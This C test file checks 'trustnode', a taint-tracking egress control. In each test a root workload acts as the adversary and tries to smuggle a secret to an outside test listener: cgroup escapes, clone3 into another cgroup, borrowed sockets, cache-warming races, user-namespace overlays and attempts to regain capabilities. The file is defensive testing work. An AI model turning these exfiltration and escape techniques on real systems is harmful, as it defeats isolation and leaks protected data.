// SPDX-License-Identifier: GPL-2.0-only
/*
 * The workload is the adversary (issue 12). Each test is an attack written
 * as a hostile workload would run it — as root — with a listener on the
 * outside test host that must receive nothing. Where the running mode
 * closes the channel the test asserts "protected"; where it does not, it
 * asserts the gap that trustctl status and the README list, so the two
 * cannot disagree.
 *
 * Sections: the control socket; taint follows the process (cgroup.procs);
 * the launcher (trustctl run) and socket families.
 */
#include <arpa/inet.h>
#include <bpf/bpf.h>
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/types.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <pwd.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include "node_fixture.h"
#include "trustnode/bpf_shared.h"

/* Whether the outside listener lfd got no connection within ms. */
static int nothing_received(int lfd, int ms)
{
	struct pollfd p = { .fd = lfd, .events = POLLIN };
	int c;

	if (poll(&p, 1, ms) <= 0)
		return 1;
	c = accept(lfd, NULL, NULL);
	if (c >= 0)
		close(c);
	return 0;
}

/* ---- the control socket serves no workload ---------------------------- */

/* One trustctl run from inside a cgroup; its output lands in out. */
struct ctl_from {
	struct tn_node *n;
	const char *args;
	char *out;		/* shared with the parent */
	size_t outlen;
};

static int ctl_from_fn(void *arg)
{
	struct ctl_from *c = arg;

	return ctl(c->n, c->out, c->outlen, "%s", c->args);
}

static int ctl_in(struct tn_node *n, const char *cg, char *out, size_t outlen,
		  const char *args)
{
	char *shared = mmap(NULL, outlen, PROT_READ | PROT_WRITE,
			    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct ctl_from c = { n, args, shared, outlen };
	int ret;

	if (shared == MAP_FAILED)
		return -1;
	shared[0] = '\0';
	ret = in_cgroup(n, cg, ctl_from_fn, &c);
	snprintf(out, outlen, "%s", shared);
	munmap(shared, outlen);
	return ret;
}

TEST_F_TIMEOUT(node, root_in_a_tainted_workload_cannot_clear_its_taint, 120)
{
	char out[4096], args[1024];

	ASSERT_EQ(0, ACT(&self->n, self->n.wl_cg, .open = data(&self->n, "secret")));
	ASSERT_STREQ("phi", taint_of(&self->n, "wl"));

	/* The attacker: root, in the tainted workload, asks trustnoded. */
	EXPECT_EQ(4, ctl_in(&self->n, self->n.wl_cg, out, sizeof(out), "workload reset wl"));
	EXPECT_NE(NULL, strstr(out, "refused: caller pid"));
	EXPECT_NE(NULL, strstr(out, "inside workload wl")) TH_LOG("%s", out);
	snprintf(args, sizeof(args), "untag %s", data(&self->n, "secret"));
	EXPECT_EQ(4, ctl_in(&self->n, self->n.wl_cg, out, sizeof(out), args));
	snprintf(args, sizeof(args), "policy load %s", self->n.policy);
	EXPECT_EQ(4, ctl_in(&self->n, self->n.wl_cg, out, sizeof(out), args));
	EXPECT_EQ(4, ctl_in(&self->n, self->n.wl_cg, out, sizeof(out), "workload remove wl2"));
	snprintf(args, sizeof(args), "tag %s --label x", data(&self->n, "plain"));
	EXPECT_EQ(4, ctl_in(&self->n, self->n.wl_cg, out, sizeof(out), args));

	/* Nothing changed: the taint stays and still holds. */
	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
	EXPECT_EQ(EPERM, ACT(&self->n, self->n.wl_cg, .connect = OUT4));
	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"control-refused\"",
			      "\"command\":\"workload.reset\"", "\"caller\":{\"uid\":0"));
	EXPECT_FALSE(HAS_EVENT(&self->n, "\"type\":\"workload-reset\""));
}

TEST_F_TIMEOUT(node, a_caller_below_trustnodes_cgroup_in_no_workload_is_refused, 120)
{
	char out[4096], args[1024];

	snprintf(args, sizeof(args), "tag %s --label x", data(&self->n, "plain"));
	EXPECT_EQ(4, ctl_in(&self->n, self->n.other_cg, out, sizeof(out), args));
	EXPECT_NE(NULL, strstr(out, "below trustnoded's cgroup")) TH_LOG("%s", out);
	EXPECT_EQ(4, ctl_in(&self->n, self->n.cgroot, out, sizeof(out), "workload reset wl"));
	EXPECT_NE(NULL, strstr(out, "below trustnoded's cgroup")) TH_LOG("%s", out);
}

TEST_F_TIMEOUT(node, a_workload_may_still_read, 120)
{
	char out[4096];

	EXPECT_EQ(0, ctl_in(&self->n, self->n.wl_cg, out, sizeof(out), "workload list"));
	EXPECT_NE(NULL, strstr(out, "wl2"));
	EXPECT_EQ(0, ctl_in(&self->n, self->n.wl_cg, out, sizeof(out), "status"));
}

TEST_F_TIMEOUT(node, administrative_records_name_the_caller, 120)
{
	char args[1024];

	ASSERT_EQ(0, ACT(&self->n, self->n.wl_cg, .open = data(&self->n, "secret")));
	ASSERT_EQ(0, ctl(&self->n, NULL, 0, "workload reset wl"));
	snprintf(args, sizeof(args), "tag %s --label fin", data(&self->n, "plain"));
	ASSERT_EQ(0, ctl(&self->n, NULL, 0, "%s", args));
	ASSERT_EQ(0, ctl(&self->n, NULL, 0, "policy load %s", self->n.policy));
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"workload-reset\"",
			      "\"caller\":{\"uid\":0,\"pid\":", "\"comm\":\"trustctl\"",
			      "\"cgroup\":\"/"));
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tag-add\"", "\"comm\":\"trustctl\""));
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"policy-load\"", "\"comm\":\"trustctl\""));
}

/* ---- taint follows the process: cgroup.procs -------------------------- */

/* What the escaping process saw, shared with the test. */
struct escape {
	struct tn_node *n;
	const char *procs;	/* cgroup.procs to write into */
	int move_child;		/* move a child of its own instead of itself */
	int taint;		/* open data/secret first */
	/* results */
	int opened, wrote, werr;
	int child_tried, child_res;
};

static struct escape *escape_new(struct tn_node *n, const char *cg, int move_child)
{
	struct escape *e = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
				MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	static char procs[4][600];
	static int i;

	if (e == MAP_FAILED)
		return NULL;
	memset(e, 0, sizeof(*e));
	i = (i + 1) % 4;
	snprintf(procs[i], sizeof(procs[i]), "%s/cgroup.procs", cg);
	e->n = n;
	e->procs = procs[i];
	e->move_child = move_child;
	e->taint = 1;
	e->werr = -1;
	e->child_res = -1;
	return e;
}

static void write_pid(struct escape *e, pid_t pid)
{
	char buf[16];
	int fd = open(e->procs, O_WRONLY | O_CLOEXEC);

	snprintf(buf, sizeof(buf), "%d", (int)pid);
	if (fd < 0) {
		e->werr = errno;
		return;
	}
	e->wrote = 1;	/* tried: cgroup mode may kill it inside write() */
	e->werr = write(fd, buf, strlen(buf)) < 0 ? errno : 0;
	close(fd);
}

/*
 * The attacker: reads the secret (the workload is tainted), moves itself
 * (or a child waiting on a pipe) into another cgroup, then connects out.
 */
static int escape_fn(void *arg)
{
	struct escape *e = arg;
	int p[2];
	pid_t child;

	if (e->taint && do_open(data(e->n, "secret")))
		return 254;
	e->opened = 1;
	if (!e->move_child) {
		write_pid(e, 0);
		return do_connect(OUT4, PORT);
	}
	if (pipe(p))
		return 252;
	child = fork();
	if (child == 0) {
		char c;

		close(p[1]);
		/* Waits until the parent has moved it (or died). */
		if (read(p[0], &c, 1) < 0)
			_exit(1);
		usleep(100 * 1000);
		e->child_tried = 1;
		e->child_res = do_connect(OUT4, PORT);
		_exit(0);
	}
	close(p[0]);
	write_pid(e, child);
	close(p[1]);
	waitpid(child, NULL, 0);
	return 0;
}

/* The test's own cgroup: outside trustnoded's, standing in for the root. */
static const char *own_cgroup(struct tn_node *n)
{
	static char path[1024];
	char line[600] = "", mnt[300];
	FILE *f = fopen("/proc/self/cgroup", "r");

	while (f && fgets(line, sizeof(line), f))
		if (!strncmp(line, "0::", 3))
			break;
	if (f)
		fclose(f);
	line[strcspn(line, "\n")] = '\0';
	snprintf(mnt, sizeof(mnt), "%s", n->cgroot);
	*strrchr(mnt, '/') = '\0';
	/* Never the machine's root cgroup: a sibling of the node's instead. */
	if (strncmp(line, "0::", 3) || !strcmp(line + 3, "/")) {
		snprintf(path, sizeof(path), "%s.outside", n->cgroot);
		mkdir(path, 0755);
	} else {
		snprintf(path, sizeof(path), "%s%s", mnt, line + 3);
	}
	return path;
}

/* Moving out of every workload: refused (lsm) or the mover killed (cgroup). */
static void assert_escape_stopped(struct __test_metadata *_metadata,
				  struct tn_node *n, int lfd, const char *dst)
{
	struct escape *e = escape_new(n, dst, 0);
	int refuses = node_refuses_synchronously(n), ret;

	ASSERT_NE(NULL, e);
	if (lsm_expected())
		ASSERT_TRUE(refuses);
	ret = in_cgroup(n, n->wl_cg, escape_fn, e);
	EXPECT_TRUE(e->opened);
	if (refuses) {
		EXPECT_EQ(EPERM, e->werr);
		EXPECT_EQ(EPERM, ret);
		EXPECT_TRUE(HAS_EVENT(n, "\"type\":\"cgroup-escape\"", "\"decision\":\"deny\"",
				      "\"workload\":\"wl\""));
	} else {
		/* The move happened; the process died before it could connect. */
		EXPECT_EQ(-1, ret);
		EXPECT_TRUE(HAS_EVENT(n, "\"type\":\"cgroup-escape\"", "\"decision\":\"kill\"",
				      "\"workload\":\"wl\"", "\"labels\":[\"phi\"]"));
		/* Detected after the fact, not refused: a listed gap. */
		EXPECT_TRUE(gap_listed(n, "is killed (with the process it moved or started) after the fact"));
	}
	EXPECT_TRUE(nothing_received(lfd, 500));
	EXPECT_STREQ("phi", taint_of(n, "wl"));
	munmap(e, 4096);
}

TEST_F_TIMEOUT(node, a_tainted_process_cannot_move_itself_below_trustnoded_out_of_its_workload, 120)
{
	assert_escape_stopped(_metadata, &self->n, self->listeners[0], self->n.other_cg);
}

TEST_F_TIMEOUT(node, a_tainted_process_cannot_move_itself_out_of_trustnodeds_cgroup, 120)
{
	const char *dst = own_cgroup(&self->n);

	assert_escape_stopped(_metadata, &self->n, self->listeners[0], dst);
	if (strstr(dst, ".outside"))
		rmdir(dst);
}

TEST_F_TIMEOUT(node, a_tainted_process_moving_into_another_workload_taints_it, 120)
{
	struct escape *e = escape_new(&self->n, self->n.wl2_cg, 0);

	ASSERT_NE(NULL, e);
	EXPECT_STREQ("-", taint_of(&self->n, "wl2"));
	EXPECT_EQ(EPERM, in_cgroup(&self->n, self->n.wl_cg, escape_fn, e));
	EXPECT_EQ(0, e->werr);
	EXPECT_STREQ("phi", taint_of(&self->n, "wl2"));
	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"cgroup-escape\"", "\"decision\":\"taint\"",
			      "\"dest_workload\":\"wl2\""));
	/* wl2's own processes are held too now. */
	EXPECT_EQ(EPERM, ACT(&self->n, self->n.wl2_cg, .connect = OUT4));
	munmap(e, 4096);
}

TEST_F_TIMEOUT(node, a_tainted_process_cannot_move_a_child_out_of_its_workload, 120)
{
	struct escape *e = escape_new(&self->n, self->n.other_cg, 1);
	int refuses = node_refuses_synchronously(&self->n);

	ASSERT_NE(NULL, e);
	in_cgroup(&self->n, self->n.wl_cg, escape_fn, e);
	usleep(500 * 1000);	/* the child, if alive, has tried by now */
	EXPECT_TRUE(e->opened);
	EXPECT_TRUE(e->wrote);
	if (refuses) {
		EXPECT_EQ(EPERM, e->werr);
		EXPECT_EQ(EPERM, e->child_res);
	} else {
		EXPECT_FALSE(e->child_tried) TH_LOG("the moved child survived: %d", e->child_res);
	}
	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"cgroup-escape\"", "\"workload\":\"wl\""));
	munmap(e, 4096);
}

TEST_F_TIMEOUT(node, moves_inside_the_workload_and_untainted_moves_are_left_alone, 120)
{
	struct escape *e;
	char sub[400];

	snprintf(sub, sizeof(sub), "%s/sub", self->n.wl_cg);
	ASSERT_EQ(0, mkdir(sub, 0755));
	/* Tainted, into its own workload's subtree: allowed, still held. */
	e = escape_new(&self->n, sub, 0);
	ASSERT_NE(NULL, e);
	EXPECT_EQ(EPERM, in_cgroup(&self->n, self->n.wl_cg, escape_fn, e));
	EXPECT_EQ(0, e->werr);
	munmap(e, 4096);
	/* Untainted (wl2), out to a cgroup in no workload: nothing to carry. */
	e = escape_new(&self->n, self->n.other_cg, 0);
	ASSERT_NE(NULL, e);
	e->taint = 0;
	EXPECT_EQ(0, in_cgroup(&self->n, self->n.wl2_cg, escape_fn, e));
	EXPECT_EQ(0, e->werr);
	EXPECT_FALSE(HAS_EVENT(&self->n, "\"type\":\"cgroup-escape\""));
	munmap(e, 4096);
}

/*
 * clone3(CLONE_INTO_CGROUP) starts the child in a cgroup outside the
 * workload: refused for a tainted workload in lsm mode (task_alloc); in
 * cgroup mode both are killed when clone3 returns to the parent. The child
 * runs for the microseconds before that (a listed gap): here it waits past
 * them, to check that it is killed.
 */
struct clone_args_ {
	__u64 flags, pidfd, child_tid, parent_tid, exit_signal, stack,
	      stack_size, tls, set_tid, set_tid_size, cgroup;
};

static int clone_into_fn(void *arg)
{
	struct escape *e = arg;
	struct clone_args_ ca = { .exit_signal = SIGCHLD };
	int cfd, st;
	long pid;

	if (do_open(data(e->n, "secret")))
		return 254;
	e->opened = 1;
	cfd = open(e->n->other_cg, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (cfd < 0)
		return 253;
	ca.flags = 0x200000000ULL;	/* CLONE_INTO_CGROUP */
	ca.cgroup = cfd;
	e->wrote = 1;
	pid = syscall(SYS_clone3, &ca, sizeof(ca));
	if (pid < 0) {
		e->werr = errno;
		return do_connect(OUT4, PORT);
	}
	if (pid == 0) {
		usleep(200 * 1000);
		e->child_tried = 1;
		e->child_res = do_connect(OUT4, PORT);
		_exit(0);
	}
	e->werr = 0;
	if (waitpid(pid, &st, 0) != pid)
		return 251;
	return 0;
}

TEST_F_TIMEOUT(node, a_tainted_process_cannot_start_a_child_outside_its_workload, 120)
{
	struct escape *e = escape_new(&self->n, self->n.other_cg, 0);
	int refuses = node_refuses_synchronously(&self->n), ret;

	ASSERT_NE(NULL, e);
	if (lsm_expected())
		ASSERT_TRUE(refuses);
	ret = in_cgroup(&self->n, self->n.wl_cg, clone_into_fn, e);
	usleep(400 * 1000);	/* the child, if alive, has tried by now */
	EXPECT_TRUE(e->opened);
	EXPECT_TRUE(e->wrote);
	if (refuses) {
		EXPECT_EQ(EPERM, e->werr);
		EXPECT_EQ(EPERM, ret);
		EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"cgroup-escape\"", "\"decision\":\"deny\""));
	} else {
		EXPECT_EQ(-1, ret);
		EXPECT_FALSE(e->child_tried) TH_LOG("the child survived: %d", e->child_res);
		EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"cgroup-escape\"", "\"decision\":\"kill\""));
		EXPECT_TRUE(gap_listed(&self->n, "clone3(CLONE_INTO_CGROUP)"));
	}
	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
	munmap(e, 4096);
}

/* Timeouts: each test builds a node; under emulation (the guest) that is slow. */


/* ---- the sender decides, not the socket's birthplace ------------------ */

#define BORROWED_DATA "tn-borrowed-socket-exfil"

struct borrowed {
	struct tn_node *n;
	const char *secret;
	int how;		/* 0 write(), 1 send(), 2 sendfile() */
};

/*
 * Outside every workload, a process connects to the outside host (allowed:
 * it is untainted), then hands the socket to a child that joins the
 * workload, reads the secret and sends through the socket it was given —
 * as an inherited, received or socket-activated socket would be used.
 */
static int send_on_a_borrowed_socket(void *arg)
{
	struct borrowed *b = arg;
	struct sockaddr_storage ss;
	socklen_t len;
	int fd = socket(AF_INET, SOCK_STREAM, 0), st;
	pid_t pid;

	if (fd < 0 || sockaddr_of(OUT4, PORT, &ss, &len) < 0 ||
	    connect(fd, (struct sockaddr *)&ss, len))
		return 90;
	pid = fork();
	if (pid == 0) {
		char procs[400];
		off_t off = 0;
		ssize_t r;
		int sfd;

		snprintf(procs, sizeof(procs), "%s/cgroup.procs", b->n->wl_cg);
		if (write_file(procs, "0"))
			_exit(91);
		sfd = open(b->secret, O_RDONLY);
		if (sfd < 0)
			_exit(92);
		if (b->how == 0)
			r = write(fd, BORROWED_DATA, sizeof(BORROWED_DATA) - 1);
		else if (b->how == 1)
			r = send(fd, BORROWED_DATA, sizeof(BORROWED_DATA) - 1, MSG_NOSIGNAL);
		else
			r = sendfile(fd, sfd, &off, 8);
		_exit(r < 0 ? errno & 0xff : 0);
	}
	if (pid < 0 || waitpid(pid, &st, 0) != pid)
		return 93;
	close(fd);
	return WIFEXITED(st) ? WEXITSTATUS(st) : 94;
}

/* Bytes the outside listener got on its next connection (-1: none came). */
static ssize_t bytes_received(int lfd)
{
	struct pollfd p = { .fd = lfd, .events = POLLIN };
	char buf[256];
	ssize_t got = 0, r;
	int c;

	if (poll(&p, 1, 3000) <= 0)
		return -1;
	c = accept(lfd, NULL, NULL);
	if (c < 0)
		return -1;
	p.fd = c;
	while (poll(&p, 1, 1500) > 0 && (r = read(c, buf, sizeof(buf))) > 0)
		got += r;
	close(c);
	return got;
}

TEST_F_TIMEOUT(node, a_socket_made_outside_the_workload_carries_nothing_out_once_tainted, 180)
{
	struct borrowed b = { &self->n, data(&self->n, "secret"), 0 };
	int lsm = node_sees_lsm_hooks(&self->n) || lsm_expected();
	static const char *const how[] = { "write", "send", "sendfile" };

	for (b.how = 0; b.how < 3; b.how++) {
		int rc = in_cgroup(&self->n, NULL, send_on_a_borrowed_socket, &b);
		ssize_t got = bytes_received(self->listeners[0]);

		if (lsm) {
			EXPECT_EQ(EPERM, rc) TH_LOG("%s", how[b.how]);
			EXPECT_EQ(0, got) TH_LOG("%s: the outside host got %zd bytes", how[b.how], got);
		} else {
			/* The gap cgroup mode lists: judged by the socket's cgroup. */
			EXPECT_EQ(0, rc) TH_LOG("%s", how[b.how]);
			EXPECT_LT(0, got) TH_LOG("%s", how[b.how]);
		}
	}
	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
	if (lsm) {
		EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"sendmsg\"", "\"decision\":\"deny\"",
				      "\"dest\":\"203.0.113.2:8080\""));
	}
}

/*
 * The same with an IPv6 UDP socket connected to the outside host, and two
 * ways to send on it from the workload: send() with no name, and sendto()
 * with a name of family AF_UNSPEC, which an IPv6 socket ignores (the
 * datagram goes to its peer), so a check that judged only the name's
 * address would judge nothing.
 */
struct borrowed_udp {
	struct tn_node *n;
	const char *secret;
	int unspec_name;
};

static int send_on_a_borrowed_udp_socket(void *arg)
{
	struct borrowed_udp *b = arg;
	struct sockaddr_in6 unspec = { .sin6_family = AF_UNSPEC };
	struct sockaddr_storage ss;
	socklen_t len;
	int fd = socket(AF_INET6, SOCK_DGRAM, 0), st;
	pid_t pid;

	if (fd < 0 || sockaddr_of(OUT6, PORT, &ss, &len) < 0 ||
	    connect(fd, (struct sockaddr *)&ss, len))
		return 90;
	pid = fork();
	if (pid == 0) {
		char procs[400];
		ssize_t r;

		snprintf(procs, sizeof(procs), "%s/cgroup.procs", b->n->wl_cg);
		if (write_file(procs, "0"))
			_exit(91);
		if (open(b->secret, O_RDONLY) < 0)
			_exit(92);
		if (b->unspec_name)
			r = sendto(fd, BORROWED_DATA, sizeof(BORROWED_DATA) - 1, 0,
				   (struct sockaddr *)&unspec, sizeof(unspec));
		else
			r = send(fd, BORROWED_DATA, sizeof(BORROWED_DATA) - 1, 0);
		_exit(r < 0 ? errno & 0xff : 0);
	}
	if (pid < 0 || waitpid(pid, &st, 0) != pid)
		return 93;
	close(fd);
	return WIFEXITED(st) ? WEXITSTATUS(st) : 94;
}

TEST_F_TIMEOUT(node, a_udp_socket_made_outside_the_workload_sends_nothing_out_once_tainted, 180)
{
	struct borrowed_udp b = { &self->n, data(&self->n, "secret"), 0 };
	int lsm = node_sees_lsm_hooks(&self->n) || lsm_expected();
	int ufd = out_udp(&self->n, OUT6, PORT);
	struct pollfd p = { .fd = ufd, .events = POLLIN };

	ASSERT_LE(0, ufd);
	for (b.unspec_name = 0; b.unspec_name < 2; b.unspec_name++) {
		int rc = in_cgroup(&self->n, NULL, send_on_a_borrowed_udp_socket, &b);
		int arrived = poll(&p, 1, 1000) == 1;
		char buf[64];

		if (arrived)
			recv(ufd, buf, sizeof(buf), MSG_DONTWAIT);
		if (lsm) {
			EXPECT_EQ(EPERM, rc) TH_LOG("AF_UNSPEC name: %d", b.unspec_name);
			EXPECT_FALSE(arrived) TH_LOG("AF_UNSPEC name: %d", b.unspec_name);
		} else {
			/* The gap cgroup mode lists: judged by the socket's cgroup. */
			EXPECT_EQ(0, rc) TH_LOG("AF_UNSPEC name: %d", b.unspec_name);
			EXPECT_TRUE(arrived) TH_LOG("AF_UNSPEC name: %d", b.unspec_name);
		}
	}
	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
	close(ufd);
}

/* ---- answers cached on the hot path ----------------------------------- */

/*
 * The connect and send checks remember, per CPU, that a cgroup has no
 * tainted workload (tn_clean, bpf_shared.h). The attack: warm that answer
 * with allowed datagrams to the outside host, pinned to one CPU, then open
 * the tagged file there and send and connect at once. Returns 0 if both
 * were refused with EPERM.
 */
static int warm_then_taint(void *secret)
{
	struct sockaddr_storage ss;
	socklen_t len;
	cpu_set_t one;
	int fd, c, i;

	CPU_ZERO(&one);
	CPU_SET(sched_getcpu(), &one);
	if (sched_setaffinity(0, sizeof(one), &one))
		return 90;
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || sockaddr_of(OUT4, PORT, &ss, &len) < 0)
		return 91;
	for (i = 0; i < 64; i++)
		if (sendto(fd, "allowed", 7, 0, (struct sockaddr *)&ss, len) != 7)
			return 92;
	if (open(secret, O_RDONLY) < 0)
		return 93;
	if (sendto(fd, "SECRET", 6, 0, (struct sockaddr *)&ss, len) >= 0 || errno != EPERM)
		return 94;
	c = socket(AF_INET, SOCK_STREAM, 0);
	if (c < 0)
		return 95;
	if (!connect(c, (struct sockaddr *)&ss, len) || errno != EPERM)
		return 96;
	return 0;
}

TEST_F_TIMEOUT(node, a_workload_whose_sends_were_just_allowed_sends_nothing_once_tainted, 180)
{
	int ufd = out_udp(&self->n, OUT4, PORT), allowed = 0, secret = 0;
	struct pollfd p = { .fd = -1, .events = POLLIN };
	char buf[64];
	ssize_t r;

	ASSERT_LE(0, ufd);
	p.fd = ufd;
	EXPECT_EQ(0, in_cgroup(&self->n, self->n.wl_cg, warm_then_taint,
			       (void *)data(&self->n, "secret")));
	while (poll(&p, 1, 1000) == 1 && (r = recv(ufd, buf, sizeof(buf), 0)) > 0) {
		allowed += r == 7 && !memcmp(buf, "allowed", 7);
		secret += r == 6 && !memcmp(buf, "SECRET", 6);
	}
	EXPECT_LT(0, allowed) TH_LOG("no allowed datagram arrived: nothing was warmed");
	EXPECT_EQ(0, secret) TH_LOG("the datagram sent after the taint arrived");
	EXPECT_TRUE(nothing_received(self->listeners[0], 500))
		TH_LOG("the connect after the taint reached the outside host");
	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
	close(ufd);
}

/* The programs' tn_clean_gen counter, or -1 if it is not pinned. */
static long long clean_gen(struct tn_node *n)
{
	__u32 which = TN_CLEAN_GEN_BPF;
	char path[300];
	__u64 v = 0;
	int fd, ret;

	snprintf(path, sizeof(path), "%s/tn_clean_gen", n->pin);
	fd = bpf_obj_get(path);
	if (fd < 0)
		return -1;
	ret = bpf_map_lookup_elem(fd, &which, &v);
	close(fd);
	return ret ? -1 : (long long)v;
}

/*
 * An answer worked out while its task moved to another cgroup may be
 * about either cgroup: every migration must make the cached answers
 * void (the race itself is too narrow to hit on purpose).
 */
TEST_F_TIMEOUT(node, every_cgroup_migration_voids_the_cached_answers, 120)
{
	long long before = clean_gen(&self->n), after;

	ASSERT_LE(0, before) TH_LOG("no tn_clean_gen pinned");
	/* in_cgroup writes the child into the workload's cgroup.procs. */
	EXPECT_EQ(0, ACT(&self->n, self->n.wl_cg));
	after = clean_gen(&self->n);
	EXPECT_LT(before, after) TH_LOG("a migration left the counter at %lld", after);
}

/* ---- overlay mounts in a user namespace ------------------------------- */

struct overlay_attack {
	char lower[320], lower2[320], merged[320];
};

/*
 * Without CAP_SYS_ADMIN (trustctl run drops it) a workload gets it back
 * over its own mounts in a new user namespace, lays a read-only overlay
 * over the tagged directory and opens the tagged file through it.
 */
static int read_through_an_overlay(void *arg)
{
	struct overlay_attack *o = arg;
	char opts[700], path[400];
	int fd;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return errno & 0xff;
	snprintf(opts, sizeof(opts), "lowerdir=%s:%s", o->lower, o->lower2);
	if (mount("overlay", o->merged, "overlay", MS_RDONLY, opts))
		return 200;
	snprintf(path, sizeof(path), "%s/old", o->merged);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 201;
	close(fd);
	return 0;
}

TEST_F_TIMEOUT(node, an_overlay_in_a_user_namespace_reads_tagged_files_untainted_in_cgroup_mode, 180)
{
	struct overlay_attack o;
	int rc;

	snprintf(o.lower, sizeof(o.lower), "%s", data(&self->n, "tagged-dir"));
	snprintf(o.lower2, sizeof(o.lower2), "%s/empty-layer", self->n.tmp);
	snprintf(o.merged, sizeof(o.merged), "%s/merged", self->n.tmp);
	ASSERT_EQ(0, run_cmd("mkdir -p %s %s", o.lower2, o.merged));
	ASSERT_EQ(0, ctl(&self->n, NULL, 0, "tag %s --label fin", o.lower));

	if (node_sees_lsm_hooks(&self->n) || lsm_expected()) {
		/*
		 * The guest runs the suite chrooted, where unshare(CLONE_NEWUSER)
		 * fails with EPERM for every process: the lsm-mode refusal
		 * (userns_create) cannot be told apart from that here.
		 */
		SKIP(return, "lsm mode: user namespaces are refused to everyone in the chrooted guest; the userns_create refusal is not exercised");
	}
	rc = in_cgroup(&self->n, self->n.wl_cg, read_through_an_overlay, &o);
	{
		/* The gap cgroup mode lists: the open is seen as the overlay's
		 * inode, which carries no tag. */
		EXPECT_EQ(0, rc);
		EXPECT_STREQ("-", taint_of(&self->n, "wl"));
		EXPECT_EQ(0, ACT(&self->n, self->n.wl_cg, .connect = OUT4));
	}
}

/* ==== launcher and socket families ===================================== */

/*
 * The attacker: this very binary, started by trustctl run with
 * TN_ADV_ACT set. It runs one attack, prints what happened as key=value
 * lines and exits before the harness starts.
 */
#define MAGIC "tn-adversary-exfil"

static void say(const char *key, long v)
{
	printf("%s=%ld\n", key, v);
}

static long try_errno(int ret)
{
	return ret < 0 ? errno : 0;
}

static int adv_connect(const char *addr)
{
	struct sockaddr_storage ss;
	socklen_t len;
	int fd, ret;

	if (sockaddr_of(addr, PORT, &ss, &len) < 0)
		return EINVAL;
	fd = socket(ss.ss_family, SOCK_STREAM, 0);
	if (fd < 0)
		return errno;
	ret = connect(fd, (struct sockaddr *)&ss, len) ? errno : 0;
	if (!ret)
		send(fd, MAGIC, strlen(MAGIC), MSG_NOSIGNAL);
	close(fd);
	return ret;
}

/* Taints itself, then writes its pid into each cgroup.procs in arg (':'). */
static void act_escape(const char *arg, const char *secret)
{
	char list[4096], *p, *save = NULL;
	int i = 0;

	say("open", do_open(secret));
	snprintf(list, sizeof(list), "%s", arg);
	for (p = strtok_r(list, ":", &save); p; p = strtok_r(NULL, ":", &save)) {
		char key[32];

		snprintf(key, sizeof(key), "escape%d", i++);
		say(key, write_file(p, "0") ? (errno ?: EIO) : 0);
	}
	say("connect", adv_connect(OUT4));
}

/* Taints itself, lists its descriptors, writes to 9 if it is there. */
static void act_fds(const char *secret)
{
	char list[512] = "";
	struct dirent *de;
	DIR *d;

	say("open", do_open(secret));
	d = opendir("/proc/self/fd");
	while (d && (de = readdir(d))) {
		if (de->d_name[0] == '.' || atoi(de->d_name) == dirfd(d))
			continue;
		snprintf(list + strlen(list), sizeof(list) - strlen(list), "%s%s",
			 list[0] ? "," : "", de->d_name);
	}
	if (d)
		closedir(d);
	printf("fds=%s\n", list);
	say("write9", write(9, MAGIC, strlen(MAGIC)) < 0 ? errno : 0);
}

static void status_line(const char *key)
{
	char line[256];
	FILE *f = fopen("/proc/self/status", "r");

	while (f && fgets(line, sizeof(line), f))
		if (!strncmp(line, key, strlen(key)))
			printf("%s", line);
	if (f)
		fclose(f);
}

/* Every way back to the privileges trustctl run took away. */
static void act_privs(void)
{
	struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct d[2];
	union bpf_attr attr;
	int fd;

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	say("raw4", try_errno(fd));
	if (fd >= 0)
		close(fd);
	fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	say("packet", try_errno(fd));
	if (fd >= 0)
		close(fd);
	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 4;
	attr.max_entries = 1;
	fd = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
	say("bpf", try_errno(fd));
	if (fd >= 0)
		close(fd);
	say("mount", try_errno(mount("none", "/mnt", "tmpfs", 0, NULL)));
	say("unshare_net", try_errno(unshare(CLONE_NEWNET)));
	/* Raise CAP_NET_RAW again: not in the permitted set, so refused. */
	if (!syscall(SYS_capget, &h, d)) {
		d[0].effective |= 1U << CAP_NET_RAW;
		d[0].permitted |= 1U << CAP_NET_RAW;
		say("capset", try_errno(syscall(SYS_capset, &h, d)));
	}
	say("ambient", try_errno(prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE,
